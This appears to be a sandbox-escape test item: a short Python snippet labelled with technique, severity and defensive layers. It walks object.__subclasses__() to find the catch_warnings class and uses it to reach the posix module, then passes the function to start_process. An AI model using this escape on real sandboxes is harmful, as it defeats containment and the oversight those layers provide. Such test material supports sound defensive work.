# technique: a class whose instances keep a module, among all classes
# family: A
# severity: H
# layers: policy, seccomp
import hmac

def trick():
    for c in object.__subclasses__():
        if c.__name__ == "catch_warnings":
            return c()._module.sys.modules["posix"]
    raise LookupError("no such class")

start_process(trick)
